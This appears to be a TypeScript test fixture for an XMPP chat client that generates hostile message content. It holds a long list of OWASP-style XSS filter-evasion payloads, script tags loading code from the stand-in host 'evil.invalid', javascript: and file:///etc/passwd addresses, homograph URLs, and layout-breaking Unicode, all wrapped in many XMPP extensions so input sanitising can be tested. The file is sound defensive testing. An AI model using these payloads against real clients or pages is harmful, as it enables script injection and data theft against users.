/**
 * What somebody might send to make a page run their script, call home or fall apart: the vectors of the OWASP sheet on
 * evading filters, carried by every text that XMPP knows, and shapes of stanzas that nobody should send.
 */
import { escapeXml } from './xml-text.ts';

/** A host that no page may ever talk to. */
export const FOREIGN = 'evil.invalid';

const CALL = 'parent.hacked=top.hacked=window.hacked=1';

/** Each would set `window.hacked` or fetch from the foreign host where markup or addresses were believed. */
const MARKUP: readonly string[] = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC=https://${FOREIGN}/xss.js></SCRIPT>`,
  `<script src="//${FOREIGN}/x"></script>`,
  `<script/XSS SRC="https://${FOREIGN}/xss.js"></script>`,
  `<<SCRIPT>${CALL};//<</SCRIPT>`,
  `<SCRIPT SRC=https://${FOREIGN}/xss.js?< B >`,
  `<IMG SRC="javascript:${CALL};">`,
  `<IMG SRC=javascript:${CALL}>`,
  `<IMG SRC=JaVaScRiPt:${CALL}>`,
  `<IMG """><SCRIPT>${CALL}</SCRIPT>"\\>`,
  `<IMG SRC=# onmouseover="${CALL}">`,
  `<IMG SRC= onmouseover="${CALL}">`,
  `<IMG onmouseover="${CALL}">`,
  `<IMG SRC=/ onerror="${CALL}"></img>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${CALL}">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${CALL}>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${CALL}>`,
  `<IMG SRC="jav\tascript:${CALL};">`,
  `<IMG SRC="jav&#x0A;ascript:${CALL};">`,
  `<IMG SRC=" &#14; javascript:${CALL};">`,
  `<SCRIPT/SRC="https://${FOREIGN}/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${CALL}>`,
  `<IMG SRC="\`('XSS')\`"`,
  `</TITLE><SCRIPT>${CALL};</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:${CALL};">`,
  `<BODY BACKGROUND="javascript:${CALL}">`,
  `<IMG DYNSRC="javascript:${CALL}">`,
  `<STYLE>li {list-style-image: url("https://${FOREIGN}/s");}</STYLE><UL><LI>XSS</br>`,
  `<svg/onload=${CALL}>`,
  `<svg><script xlink:href="https://${FOREIGN}/x"/></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<BGSOUND SRC="https://${FOREIGN}/sound">`,
  `<BR SIZE="&{${CALL}}">`,
  `<LINK REL="stylesheet" HREF="https://${FOREIGN}/xss.css">`,
  `<STYLE>@import'https://${FOREIGN}/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=https://${FOREIGN}/">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">`,
  `<IFRAME SRC="javascript:${CALL};"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="${CALL}"></IFRAME>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<FRAMESET><FRAME SRC="https://${FOREIGN}/"></FRAMESET>`,
  `<TABLE BACKGROUND="https://${FOREIGN}/t">`,
  `<DIV STYLE="background-image: url(https://${FOREIGN}/d)">`,
  `<DIV STYLE="width: expression(${CALL});">`,
  `<BASE HREF="https://${FOREIGN}/">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="https://${FOREIGN}/o"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2Zy8+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<!--[if gte IE 4]><SCRIPT>${CALL};</SCRIPT><![endif]-->`,
  `<video><source onerror="${CALL}"></video>`,
  `<audio src=x onerror=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<marquee onstart=${CALL}>`,
  `<form action="https://${FOREIGN}/"><button autofocus onfocus=${CALL}>`,
  `<math><maction actiontype="statusline#https://${FOREIGN}/">x`,
  `<template shadowrootmode=open><script>${CALL}</script></template>`,
  `\\";${CALL};//`,
  `';${CALL};//`,
  `\${${CALL}}{{constructor.constructor('${CALL}')()}}`,
  `]]><script>${CALL}</script><![CDATA[`,
];

/** Addresses that are none to follow. */
const ADDRESSES: readonly string[] = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\u0000script:${CALL}`.replaceAll('\u0000', '\u200B'),
  ` javascript:${CALL}`,
  `javascript://${FOREIGN}/%0a${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:image/svg+xml,<svg onload="${CALL}"/>`,
  `vbscript:${CALL}`,
  'file:///etc/passwd',
  `blob:https://${FOREIGN}/1`,
  `https://${FOREIGN}/picture.png`,
  `//${FOREIGN}/picture.png`,
  `https://user:password@${FOREIGN}/`,
  `https://\u202Egnp.${FOREIGN}/`,
  `https://xn--80ak6aa92e.${FOREIGN}/`,
  `https://а${FOREIGN}/look-alike.jpg`,
  `xmpp:${FOREIGN}?message;body=${encodeURIComponent('<script>1</script>')}`,
  `ftp://${FOREIGN}/a`,
  `geo:91,181;u=${'9'.repeat(200)}`,
  `https://${FOREIGN}/${'a/'.repeat(900)}`,
];

/** Texts that could break a layout, or a program that takes texts apart. */
const TEXTS: readonly string[] = [
  'x'.repeat(20_000),
  '\u0301'.repeat(2_000),
  `Z${'\u0358\u0489'.repeat(400)}algo`,
  '\u202E\u2066\u2067\u202D'.repeat(200),
  '\u202Edlrow olleh',
  '\u200B\u200D\uFEFF'.repeat(500),
  '\n'.repeat(3_000),
  '\t'.repeat(2_000),
  '﷽'.repeat(300),
  '𒐫'.repeat(300),
  '👩‍👩‍👧‍👦'.repeat(400),
  `${'👨‍'.repeat(500)}`,
  '🏳️‍🌈'.repeat(300),
  `${'*_~`'.repeat(1_000)}`,
  `${'> '.repeat(1_000)}deep`,
  `${'```\n'.repeat(401)}`,
  `${'('.repeat(3_000)}`,
  `${'['.repeat(1_500)}${']'.repeat(1_500)}`,
  `http://${'a.'.repeat(2_000)}example`,
  `${'http://a.b '.repeat(800)}`,
  `${'@'.repeat(2_000)}`,
  `${'a@b.example '.repeat(500)}`,
  `${':)'.repeat(1_500)}`,
  `${':smile:'.repeat(800)}`,
  `/me ${'x'.repeat(5_000)}`,
  '/me',
  '/clear',
  '__proto__',
  'constructor',
  '\u0085\u2028\u2029',
  '\u061C\u200E\u200F'.repeat(300),
  'بسم الله '.repeat(500),
  'ก็็็็็็็็็็็็็็็็็็็็'.repeat(100),
  '-1e309 NaN 0x10 1'.repeat(50),
];

const VALUES: readonly string[] = [...MARKUP, ...ADDRESSES, ...TEXTS];
const SHORT: readonly string[] = [...MARKUP, ...ADDRESSES.slice(0, 12), ...TEXTS.map((text) => text.slice(0, 300))];

const body = (text: string) => `<body>${escapeXml(text)}</body>`;
const attribute = (text: string) => escapeXml(text.replace(/[\n\t]/g, ' '));

/** Carriers of one text each: what stands inside a message. */
const CARRIERS: readonly ((text: string) => string)[] = [
  (text) => `${body('a file')}<x xmlns="jabber:x:oob"><url>${escapeXml(text)}</url><desc>${escapeXml(text)}</desc></x>`,
  (text) =>
    `${body(text)}<html xmlns="http://jabber.org/protocol/xhtml-im"><body xmlns="http://www.w3.org/1999/xhtml"><p><a href="${attribute(text)}">x</a><img src="${attribute(text)}" alt="${attribute(text)}"/></p></body></html>`,
  (text) =>
    `${body('file')}<reference xmlns="urn:xmpp:reference:0" type="data" uri="${attribute(text)}"><media-sharing xmlns="urn:xmpp:sims:1"><file xmlns="urn:xmpp:jingle:apps:file-transfer:5"><name>${escapeXml(text)}</name><media-type>image/png</media-type><size>-1</size></file><sources><reference xmlns="urn:xmpp:reference:0" type="data" uri="${attribute(text)}"/></sources></media-sharing></reference>`,
  (text) =>
    `<file-sharing xmlns="urn:xmpp:sfs:0" disposition="inline"><file xmlns="urn:xmpp:file:metadata:0"><name>${escapeXml(text)}</name><media-type>${escapeXml(text)}</media-type><size>99999999999999999999</size><width>1e9</width><height>-5</height></file><sources><url-data xmlns="http://jabber.org/protocol/url-data" target="${attribute(text)}"/></sources></file-sharing>${body('shared')}`,
  (text) =>
    `${body('reply')}<reply xmlns="urn:xmpp:reply:0" to="${attribute(text)}" id="${attribute(text)}"/><fallback xmlns="urn:xmpp:fallback:0" for="urn:xmpp:reply:0"><body start="-5" end="999999"/></fallback>`,
  (text) =>
    `<reactions xmlns="urn:xmpp:reactions:0" id="${attribute(text)}"><reaction>${escapeXml(text)}</reaction></reactions>`,
  (text) => `${body(text)}<replace xmlns="urn:xmpp:message-correct:0" id="${attribute(text)}"/>`,
  (text) => `<subject>${escapeXml(text)}</subject>${body(text)}<thread>${escapeXml(text)}</thread>`,
  (text) => `${body(text)}<nick xmlns="http://jabber.org/protocol/nick">${escapeXml(text)}</nick>`,
  (text) =>
    `${body('preview')}<Description xmlns="http://www.w3.org/1999/02/22-rdf-syntax-ns#" about="${attribute(text)}"><title xmlns="https://ogp.me/ns#">${escapeXml(text)}</title><image xmlns="https://ogp.me/ns#">${escapeXml(text)}</image></Description>`,
  (text) => `${body('spoiler')}<spoiler xmlns="urn:xmpp:spoiler:0">${escapeXml(text)}</spoiler>`,
  (text) =>
    `${body('form')}<x xmlns="jabber:x:data" type="form"><title>${escapeXml(text)}</title><field type="text-single" var="${attribute(text)}" label="${attribute(text)}"><value>${escapeXml(text)}</value></field></x>`,
];

/** Stanzas of shapes that nobody needs; `%s` is the text they carry. */
const SHAPES: readonly string[] = [
  '<body/>',
  '<body>one</body><body>two</body>',
  '<body xml:lang="x-%s">three</body>',
  '<body xmlns="http://www.w3.org/1999/xhtml">not ours</body>',
  '<body><body>nested</body></body>',
  '<body>shape</body><delay xmlns="urn:xmpp:delay" stamp="+275760-09-13T00:00:00Z"/>',
  '<body>shape</body><delay xmlns="urn:xmpp:delay" stamp="never" from="%s"/>',
  '<body>shape</body><stanza-id xmlns="urn:xmpp:sid:0" id="" by=""/>',
  '<body>shape</body><origin-id xmlns="urn:xmpp:sid:0" id="__proto__"/>',
  '<received xmlns="urn:xmpp:receipts" id="%s"/>',
  '<received xmlns="urn:xmpp:receipts"/>',
  '<displayed xmlns="urn:xmpp:chat-markers:0" id="%s"/>',
  '<composing xmlns="http://jabber.org/protocol/chatstates"/><paused xmlns="http://jabber.org/protocol/chatstates"/>',
  '<event xmlns="http://jabber.org/protocol/pubsub#event"><items node="%s"><item/></items></event>',
  '<result xmlns="urn:xmpp:mam:2" id="x" queryid="x"><forwarded xmlns="urn:xmpp:forward:0"/></result>',
  '<sent xmlns="urn:xmpp:carbons:2"><forwarded xmlns="urn:xmpp:forward:0"><message xmlns="jabber:client"/></forwarded></sent>',
  '<received xmlns="urn:xmpp:carbons:2"/>',
  '<x xmlns="jabber:x:conference" jid="%s" reason="%s"/>',
  '<x xmlns="http://jabber.org/protocol/muc#user"><invite from="%s"><reason>%s</reason></invite></x>',
  '<x xmlns="http://jabber.org/protocol/muc#user"><status code="-1"/><item role="%s" affiliation="%s"/></x>',
  '<retract xmlns="urn:xmpp:message-retract:1" id="%s"/><body>gone</body>',
  '<apply-to xmlns="urn:xmpp:fasten:0" id="%s"><retract xmlns="urn:xmpp:message-retract:0"/></apply-to>',
  '<moderated xmlns="urn:xmpp:message-moderate:1" by="%s"/><body>moderated</body>',
  '<geoloc xmlns="http://jabber.org/protocol/geoloc"><lat>1e999</lat><lon>NaN</lon></geoloc><body>here</body>',
  '<encrypted xmlns="eu.siacs.conversations.axolotl"><header sid="-1"/></encrypted><body>omemo</body>',
  '<body>?OTRv23?</body>',
  '<body>?OTR:AAMC.</body>',
  '<body>?OTR Error: %s</body>',
];

const nested = (depth: number) => `${'<x xmlns="urn:x">'.repeat(depth)}${'</x>'.repeat(depth)}<body>deep</body>`;

export interface Hostile {
  readonly type: 'chat' | 'normal' | 'headline';
  /** Children of the message, as XML text. */
  readonly content: string;
}

const chat = (content: string): Hostile => ({ type: 'chat', content });

/** What a contact sends in messages. */
export function hostileMessages(): Hostile[] {
  const carried = CARRIERS.flatMap((carry, index) =>
    SHORT.filter((_, place) => (place + index) % 4 === 0).map((text) => chat(carry(text))),
  );
  const shapes = SHAPES.flatMap((shape) =>
    [MARKUP[0], ADDRESSES[0], TEXTS[3]?.slice(0, 50)].map((text = '') => chat(shape.replaceAll('%s', attribute(text)))),
  );
  const others = MARKUP.slice(0, 6).flatMap((text): Hostile[] => [
    { type: 'normal', content: body(text) },
    { type: 'headline', content: `<subject>${escapeXml(text)}</subject>${body(text)}` },
  ]);
  return [...VALUES.map((text) => chat(body(text))), ...carried, ...shapes, ...others, chat(nested(200))];
}

/** Nicknames, profiles and status messages; what XML or an address cannot carry is left out by the server. */
export const hostileTexts = (): string[] => [...SHORT];
